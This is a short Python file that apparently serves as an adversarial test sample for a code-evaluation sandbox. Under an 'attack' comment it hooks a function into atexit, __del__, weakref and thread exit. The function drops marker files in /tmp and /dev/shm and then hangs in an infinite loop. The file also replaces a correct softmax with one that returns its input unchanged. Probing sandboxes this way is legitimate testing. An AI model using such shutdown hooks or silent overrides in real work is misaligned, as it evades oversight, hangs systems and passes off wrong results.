"""Leaves code for the end: atexit, __del__, weakref, threads."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import atexit
import os
import threading
import weakref


def late(*args):
    for folder in ("/tmp", "/dev/shm"):
        try:
            open(f"{folder}/left-by-attack-late", "w").close()
        except OSError:
            pass
    while True:
        pass


class Last:
    __del__ = late


KEPT = Last()
atexit.register(late)
weakref.finalize(KEPT, late)
threading._register_atexit(late)


def softmax(scores):
    scores.last = Last()
    Last()
    return scores
